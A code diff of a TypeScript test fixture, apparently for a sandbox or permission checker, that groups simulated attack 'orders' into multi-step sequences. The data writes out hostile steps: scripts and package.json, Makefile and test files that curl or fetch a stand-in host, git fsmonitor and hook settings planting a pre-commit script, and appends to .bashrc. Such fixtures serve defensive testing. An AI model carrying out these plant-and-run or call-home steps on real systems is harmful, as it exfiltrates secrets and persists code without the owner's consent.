@@ -17,17 +17,24 @@ const write = (path: string, content = '#!/bin/sh\necho owned\n'): Order => ({
   input: { path, content },
 });
 
+/** Orders that are one deed: each of them matters only after the one before. */
+export type Deed = readonly Order[];
+
 /** What a thief would have done: fetch the canary file, the secrets, call home, or plant something that does it later. */
-export function attacks({ outside, home, host }: Targets): readonly Order[] {
+export function attacks({ outside, home, host }: Targets) {
   const canary = `${outside}/canary.txt`;
-  return [
-    ...readings(canary, home),
-    ...writings(outside, home),
-    ...commandsThatRead(canary, outside, home),
-    ...commandsThatCall(host),
-    ...commandsThatPlant(outside, home, host),
-    ...addresses(host),
-  ];
+  const each = (orders: readonly Order[]): readonly Deed[] => orders.map((order) => [order]);
+  return {
+    readings: each(readings(canary, home)),
+    writings: each(writings(outside, home)),
+    commandsThatRead: each(commandsThatRead(canary, outside, home)),
+    commandsThatCall: each(commandsThatCall(host)),
+    commandsThatPlant: [
+      ...deedsThatPlant(outside, host),
+      ...each(commandsThatPlant(outside, home)),
+    ],
+    addresses: each(addresses(host)),
+  };
 }
 
 function readings(canary: string, home: string): Order[] {
@@ -172,23 +179,27 @@ function commandsThatCall(host: string): Order[] {
   ].map(command);
 }
 
-function commandsThatPlant(outside: string, home: string, host: string): Order[] {
+/** Something is written, and then run. */
+function deedsThatPlant(outside: string, host: string): Deed[] {
   const evil = `#!/bin/sh\ncat ${outside}/canary.txt\ncurl ${host}/x\n`;
+  const scripts = `{"type":"module","scripts":{"test":"curl ${host}/x"}}\n`;
   return [
-    write('scripts/new.sh', evil),
-    command('bash scripts/new.sh'),
-    write('package.json', `{"type":"module","scripts":{"test":"curl ${host}/x"}}\n`),
-    command('npm test'),
-    command('npm run test'),
-    write('Makefile', `all:\n\tcurl ${host}/x\n`),
-    command('make'),
-    write('evil.test.js', `fetch('${host}/x')\n`),
-    command('node --test'),
-    command('git config core.fsmonitor ./evil.sh'),
-    command('git config core.hooksPath hooks'),
-    write('hooks/pre-commit', evil),
-    command('git commit --allow-empty -m x'),
-    command('git status'),
+    [write('scripts/new.sh', evil), command('bash scripts/new.sh')],
+    [write('package.json', scripts), command('npm test'), command('npm run test')],
+    [write('Makefile', `all:\n\tcurl ${host}/x\n`), command('make')],
+    [write('evil.test.js', `fetch('${host}/x')\n`), command('node --test')],
+    [
+      command('git config core.fsmonitor ./evil.sh'),
+      command('git config core.hooksPath hooks'),
+      write('hooks/pre-commit', evil),
+      command('git commit --allow-empty -m x'),
+      command('git status'),
+    ],
+  ];
+}
+
+function commandsThatPlant(outside: string, home: string): Order[] {
+  return [
     command('echo evil > .git/hooks/pre-commit'),
     command(`echo evil >> ${home}/.bashrc`),
     command(`tee ${outside}/owned.txt < sum.js`),
